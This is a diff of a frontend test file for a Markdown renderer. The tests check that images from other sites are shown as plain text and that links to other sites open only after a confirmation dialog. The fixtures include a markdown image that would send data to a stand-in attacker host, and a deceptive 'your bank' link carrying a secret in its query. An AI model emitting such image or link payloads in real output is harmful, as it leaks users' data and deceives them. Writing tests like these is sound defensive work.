@@ -1,4 +1,5 @@
 import { act, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
 import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
 import { initI18n } from '../../i18n';
 import { COPIED_FOR_MS } from './copy-button';
@@ -72,13 +73,44 @@ describe('Markdown', () => {
     expect(screen.getByRole('link', { name: 'top' })).toHaveAttribute('href', '#top');
   });
 
-  it('does not load an image from another site, and offers it as a link instead', () => {
+  it('does not load an image from another site, nor make it a link: its description and address are plain text', () => {
     const { container } = render(<Markdown source="![A chart](https://evil.example/chart.png?leak=secret)" />);
     expect(container.querySelector('img')).toBeNull();
-    const placeholder = screen.getByRole('link', { name: 'A chart' });
-    expect(placeholder).toHaveAttribute('href', 'https://evil.example/chart.png?leak=secret');
-    expect(placeholder).toHaveAttribute('target', '_blank');
+    expect(container.querySelector('a')).toBeNull();
+    expect(screen.queryByRole('link')).toBeNull();
+    const placeholder = container.querySelector('[data-blocked-image]');
+    expect(placeholder).toHaveTextContent('A chart');
+    expect(placeholder).toHaveTextContent('https://evil.example/chart.png?leak=secret');
     expect(placeholder).toHaveAttribute('title', expect.stringContaining('not loaded'));
+  });
+
+  it('asks before following a link to another site, showing its whole address; Cancel stays, Open opens it apart', async () => {
+    const open = vi.spyOn(window, 'open').mockReturnValue(null);
+    const user = userEvent.setup();
+    render(<Markdown source={'[your bank](https://evil.example/collect?secret=42) and [help](/help)'} />);
+    const outside = screen.getByRole('link', { name: 'your bank' });
+    // The host it really goes to is written beside text that does not say it.
+    expect(outside.nextSibling).toHaveTextContent('(evil.example)');
+
+    await user.click(outside);
+    const dialog = screen.getByRole('dialog', { name: 'Open a link to another site?' });
+    expect(dialog).toHaveTextContent('https://evil.example/collect?secret=42');
+    await user.click(within(dialog).getByRole('button', { name: 'Cancel' }));
+    expect(screen.queryByRole('dialog')).toBeNull();
+    expect(open).not.toHaveBeenCalled();
+
+    // A middle click asks too.
+    fireEvent(outside, new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 1 }));
+    await user.click(within(screen.getByRole('dialog')).getByRole('button', { name: 'Open' }));
+    expect(open).toHaveBeenCalledExactlyOnceWith('https://evil.example/collect?secret=42', '_blank', 'noopener,noreferrer');
+    expect(screen.queryByRole('dialog')).toBeNull();
+
+    // A link on this site is followed at once.
+    const here = screen.getByRole('link', { name: 'help' });
+    expect(fireEvent.click(here)).toBe(true);
+    expect(here).not.toHaveAttribute('data-outside');
+    expect(screen.queryByRole('dialog')).toBeNull();
+    open.mockRestore();
   });
 
   it('shows images from this site and blob: URLs', () => {
